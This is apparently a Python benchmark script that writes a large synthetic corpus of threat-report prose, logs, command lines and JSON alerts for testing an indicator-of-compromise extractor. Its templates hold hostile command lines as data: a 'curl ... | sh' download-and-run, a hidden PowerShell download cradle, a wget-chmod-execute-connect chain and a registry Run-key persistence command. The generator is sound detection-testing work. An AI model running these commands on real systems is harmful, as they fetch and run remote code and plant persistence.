#!/usr/bin/env python3
"""Writes a deterministic mixed corpus for the IoC extraction benchmark.

    bench/gen_ioc_corpus.py OUT [MEGABYTES]      (default 110 MB)

Four kinds of text, interleaved in blocks, like what an analyst feeds extract_iocs():
threat-report prose with defanged indicators, log lines (sshd, web access, firewall),
command lines (Windows and Linux), and JSON alert records. The same seed always gives
the same bytes, so figures from two runs compare.
"""
import random
import sys

R = random.Random(20210302)

WORDS = ("the actor used a web shell to gain access and then moved laterally across the "
         "network before staging data for exfiltration over an encrypted channel while "
         "defenders observed unusual authentication events on several hosts version "
         "1.2.3.4.5 was deployed on 2021-03-02 at 12:30:45 and the build 10.0.19041.1 "
         "ran under Windows NT 10.0 with Chrome/102.0.5005.63 in the afternoon").split()
TLDS = ["com", "net", "org", "ru", "cn", "io", "info", "top", "xyz", "co.uk", "biz", "online"]
EXTS = ["exe", "dll", "ps1", "bat", "aspx", "txt", "log", "zip", "py", "sh", "dat"]
USERS = ["root", "admin", "alice", "bob", "svc_backup", "MSTICAdmin", "www-data"]


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ipv4():
    return ".".join(str(R.randint(1, 254)) for _ in range(4))


def ipv6():
    groups = [format(R.randint(0, 0xffff), "x") for _ in range(8)]
    if R.random() < 0.6:
        i = R.randint(1, 5)
        return ":".join(groups[:i]) + "::" + ":".join(groups[i + 2:])
    return ":".join(groups)


def label():
    return "".join(R.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(R.randint(3, 12)))


def domain():
    return ".".join(label() for _ in range(R.randint(1, 3))) + "." + R.choice(TLDS)


def defang(s):
    return s.replace(".", R.choice(["[.]", "[.]", "(.)", "[dot]"]))


def url():
    path = "/".join(label() for _ in range(R.randint(0, 4)))
    u = R.choice(["http", "https"]) + "://" + R.choice([domain(), domain(), ipv4()]) + "/" + path
    if R.random() < 0.3:
        u += "?id=" + str(R.randint(1, 99999)) + "&u=" + label()
    return u


def winpath():
    parts = R.choice([["C:", "Windows", "System32"], ["C:", "Users", R.choice(USERS), "AppData", "Local", "Temp"],
                      ["C:", "Program Files", "Microsoft", "Exchange Server", "V15", "FrontEnd"],
                      ["C:", "inetpub", "wwwroot", "aspnet_client"], ["C:", "ProgramData"]])
    return "\\".join(parts) + "\\" + label() + "." + R.choice(EXTS)


def linpath():
    return "/" + "/".join(R.choice(["tmp", "var", "usr", "etc", "home", "opt", "lib", "dev/shm"])
                          for _ in range(R.randint(1, 2))) + "/" + label() + R.choice(["", ".sh", ".so", ".py"])


def words(n):
    return " ".join(R.choice(WORDS) for _ in range(n))


def prose():
    out = []
    for _ in range(R.randint(3, 8)):
        kind = R.random()
        if kind < 0.15:
            ind = defang(domain())
        elif kind < 0.3:
            ind = defang(ipv4())
        elif kind < 0.4:
            ind = defang(url()).replace("http", "hxxp", 1)
        elif kind < 0.5:
            ind = hexs(R.choice([32, 40, 64]))
        elif kind < 0.55:
            ind = "CVE-20%02d-%d" % (R.randint(10, 24), R.randint(1000, 49999))
        elif kind < 0.6:
            ind = R.choice(USERS) + "[@]" + defang(domain())
        elif kind < 0.7:
            ind = winpath()
        else:
            ind = ""
        out.append(words(R.randint(8, 25)) + (" " + ind if ind else "") + ".")
    return " ".join(out) + "\n"


def log_line():
    k = R.random()
    if k < 0.35:
        return ("Mar  2 %02d:%02d:%02d host sshd[%d]: Failed password for %s from %s port %d ssh2\n"
                % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(100, 65000),
                   R.choice(USERS), ipv4(), R.randint(1024, 65535)))
    if k < 0.7:
        return ('%s - - [02/Mar/2021:%02d:%02d:%02d +0000] "GET /%s/%s.php?q=%d HTTP/1.1" %d %d "%s" '
                '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/102.0.5005.63"\n'
                % (ipv4(), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), label(), label(),
                   R.randint(1, 999), R.choice([200, 302, 404]), R.randint(100, 99999), url()))
    if k < 0.85:
        return ("2021-03-02T%02d:%02d:%02d.%03dZ fw action=drop proto=tcp src=%s dst=%s spt=%d dpt=%d "
                "mac=00:1a:2b:%02x:%02x:%02x\n"
                % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999), ipv4(),
                   R.choice([ipv4(), ipv6()]), R.randint(1024, 65535), R.choice([22, 80, 443, 3389]),
                   R.randint(0, 255), R.randint(0, 255), R.randint(0, 255)))
    return ("type=EXECVE msg=audit(1614679722.%03d:%d): argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=\"%s\"\n"
            % (R.randint(0, 999), R.randint(1, 99999), "curl -s " + url() + " | sh"))


def command_line():
    k = R.random()
    if k < 0.4:
        return ('"%s" /c reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v %s /d "%s" /f\n'
                % ("C:\\Windows\\System32\\cmd.exe", label(), winpath()))
    if k < 0.7:
        return ("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('%s')\"\n"
                % url())
    return "wget -q %s -O %s && chmod +x %s && %s --connect %s:%d\n" % (
        url(), linpath(), linpath(), linpath(), ipv4(), R.randint(1024, 65535))


def json_record():
    return ('{"TimeGenerated":"2021-03-02T%02d:%02d:%02d.0000000Z","AlertName":"Suspicious process",'
            '"Severity":"High","Description":"Process %s connected to %s (%s)","Entities":'
            '[{"Type":"ip","Address":"%s"},{"Type":"file","Name":"%s.exe","Directory":"%s",'
            '"FileHashes":[{"Algorithm":"SHA256","Value":"%s"}]},{"Type":"host","HostName":"%s",'
            '"DnsDomain":"%s"}],"ExtendedProperties":{"CommandLine":"%s","User":"%s@%s"}}\n'
            % (R.randint(0, 23), R.randint(0, 59), R.randint(0, 59),
               winpath().replace("\\", "\\\\"), ipv4(), domain(), ipv4(), label(),
               "C:\\\\Users\\\\" + R.choice(USERS) + "\\\\AppData", hexs(64), label(), domain(),
               "cmd.exe /c whoami", R.choice(USERS), domain()))


def main():
    out = sys.argv[1]
    target = int(float(sys.argv[2]) * 1e6) if len(sys.argv) > 2 else 110_000_000
    makers = [prose, log_line, log_line, command_line, json_record]
    size = 0
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        while size < target:
            block = "".join(R.choice(makers)() for _ in range(200))
            f.write(block)
            size += len(block.encode())
    print("%s: %d bytes" % (out, size))


if __name__ == "__main__":
    main()
